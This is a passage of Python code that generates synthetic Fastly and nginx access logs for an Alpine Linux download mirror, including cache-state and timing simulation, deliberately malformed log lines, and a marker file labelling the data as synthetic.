    return np.select([u < 0.5, u < 0.65, u < 0.72], [newest, n_pb - 2, n_pb - 1], pb)


def _release_patch(ctx: _DayContext, rng: np.random.Generator, rb: np.ndarray) -> np.ndarray:
    """The current x.y.N of the branch, or (one in five) an older one."""
    now = ctx.patch_now[rb]
    older = (rng.random(len(rb)) * (now + 1)).astype(np.int64)
    return np.where(rng.random(len(rb)) < 0.2, older, now)


def _cache_and_timing(
    world: _World,
    rng: np.random.Generator,
    cols: _Cols,
    client: np.ndarray,
    body: np.ndarray,
    purge: np.ndarray,
    head: np.ndarray,
) -> tuple[np.ndarray, np.ndarray]:
    """Fastly cache state (fastly_info.state) and time_elapsed (µs) per line."""
    n = len(client)
    u = rng.random(n)
    miss = u < cols.miss_p
    hit_state = np.searchsorted([0.93, 0.98], rng.random(n), side="right")  # HIT, -CLUSTER, -STALE
    hit_state = np.array([STATES.index(s) for s in ("HIT", "HIT-CLUSTER", "HIT-STALE")])[hit_state]
    miss_state = np.where(rng.random(n) < 0.85, STATES.index("MISS"), STATES.index("MISS-CLUSTER"))
    state = np.where(miss, miss_state, hit_state)
    junk_pass = (cols.miss_p >= 1.0) & (rng.random(n) < 0.5)
    passed = junk_pass | purge | (cols.method == METHODS.index("POST")) | (rng.random(n) < 0.003)
    state[passed] = STATES.index("PASS")
    state[cols.status == 503] = STATES.index("ERROR")
    origin = miss | passed
    # Edge work, then the origin round trip (T1 mirrors are in Europe), then the transfer at the
    # client's own speed (bytes per microsecond).
    elapsed = rng.lognormal(math.log(250.0), 0.6, n)
    elapsed += np.where(origin, rng.lognormal(math.log(45_000.0), 0.7, n), 0.0)
    elapsed += np.where(head, 0.0, body / world.clients.rate[client])
    return state, np.clip(elapsed, 20, 3_600_000_000).astype(np.int64)


def _malform(
    world: _World,
    ctx: _DayContext,
    rng: np.random.Generator,
    lines: pl.Series,
    client: np.ndarray,
    ts_ms: np.ndarray,
    fmt: str,
) -> tuple[pl.Series, list[tuple[int, bytes]]]:
    """Replaces ~0.1% of lines with the broken kinds real edges log.

    Lines of raw bytes (not valid UTF-8) are left empty and returned as (position, bytes).
    """
    n = len(lines)
    k = int(rng.binomial(n, MALFORMED_RATE))
    if k == 0:
        return lines, []
    pos = np.sort(rng.choice(n, size=k, replace=False))
    kinds = rng.random(k)
    values: list[str] = []
    raw_lines: list[tuple[int, bytes]] = []
    for i, p in enumerate(pos.tolist()):
        if fmt == "combined":
            ip = world.clients.ips[int(client[p])]
            when = ctx.time_text[int(ts_ms[p] // 1000)]
            text, raw = _broken_combined(rng, kinds[i], lines[p], ip, when)
        else:
            text, raw = _broken_fastly(rng, kinds[i], lines[p])
        values.append(text)
        if raw is not None:
            raw_lines.append((p, raw))
    return lines.scatter(pos, values), raw_lines


def _broken_combined(
    rng: np.random.Generator, x: float, original: str, ip: str, when: str
) -> tuple[str, bytes | None]:
    """A broken nginx line, by `x`: a TLS ClientHello sent to port 80 (nginx logs the bytes as
    \\xHH, status 400), a connection that sent nothing (`"-" 408`), a line cut short, an
    error-log line, or raw binary (returned as bytes, the text empty)."""
    if x < 0.35:
        hello = bytes([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xFC, 0x03, 0x03])
        hello += rng.integers(0, 256, int(rng.integers(8, 40))).astype(np.uint8).tobytes()
        request = _escape_nginx_bytes(hello)
        return f'{ip} - - [{when}] "{request}" 400 {BODY_400} "-" "-"', None
    if x < 0.6:
        return f'{ip} - - [{when}] "-" 408 0 "-" "-"', None
    if x < 0.85:
        return original[: int(rng.integers(10, max(11, len(original) - 3)))], None
    if x < 0.93:
        stamp = dt.datetime.strptime(when[:20], "%d/%b/%Y:%H:%M:%S")
        return (
            f"{stamp:%Y/%m/%d %H:%M:%S} [error] 3121#3121: *{int(rng.integers(1_000_000))} "
            f'open() "/srv/mirror/alpine/edge/main/x86_64/xz-5.8.0-r0.apk" failed (2: No '
            f"such file or directory), client: {ip}, server: {HOST}, request: "
            f'"GET /alpine/edge/main/x86_64/xz-5.8.0-r0.apk HTTP/1.1", host: "{HOST}"'
        ), None
    return "", GARBAGE[int(rng.integers(len(GARBAGE)))]


def _broken_fastly(rng: np.random.Generator, x: float, original: str) -> tuple[str, bytes | None]:
    """A broken Fastly line, by `x`: JSON cut short, a syslog line without JSON, or raw binary
    (returned as bytes, the text empty)."""
    start = original.index("{")
    if x < 0.6:
        return original[: int(rng.integers(start + 1, len(original) - 1))], None
    if x < 0.9:
        return original[:start] + "logging endpoint test message", None
    return "", GARBAGE[int(rng.integers(len(GARBAGE)))]


# --- Files ---------------------------------------------------------------------------------------


def _open_out(path: Path, compress: bool) -> BinaryIO:
    """A binary writer; gzip with a fixed header time so the same input gives the same bytes."""
    if not compress:
        return path.open("wb")
    raw = path.open("wb")
    if _igzip is not None:
        return _igzip.IGzipFile(fileobj=raw, mode="wb", compresslevel=1, mtime=0)  # type: ignore[return-value]
    return gzip_module.GzipFile(fileobj=raw, mode="wb", compresslevel=1, mtime=0)  # type: ignore[return-value]


def _write_marker(
    out_dir: Path, start: dt.date, days: int, lines_per_day: int, fmt: str, seed: int, gz: bool
) -> None:
    """SYNTHETIC.txt: says what the folder holds and how to make it again."""
    end = start + dt.timedelta(days=days - 1)
    text = f"""\
SYNTHETIC DATA. The log files in this folder were generated by dlcdn (pipeline.synthetic.generate);
they are not real traffic of dl-cdn.alpinelinux.org and no real person made these requests.

format:        {fmt}
first day:     {start.isoformat()}
last day:      {end.isoformat()}
days:          {days}
lines per day: {lines_per_day}
seed:          {seed}
gzip:          {str(gz).lower()}

Regenerate: dlcdn generate --out DIR --start {start.isoformat()} --days {days} \
--lines-per-day {lines_per_day} --format {fmt} --seed {seed}{" --gzip" if gz else ""}

Client addresses are random hosts inside real networks so that they geolocate to a realistic
country mix; the networks come from DB-IP City Lite (CC BY 4.0), IP Geolocation by DB-IP
(https://db-ip.com). About 0.1% of lines are deliberately malformed.
"""
    from pipeline.ingest.landing import MARKER_NAME

    (out_dir / MARKER_NAME).write_text(text)  # ingest knows it by its name and first words
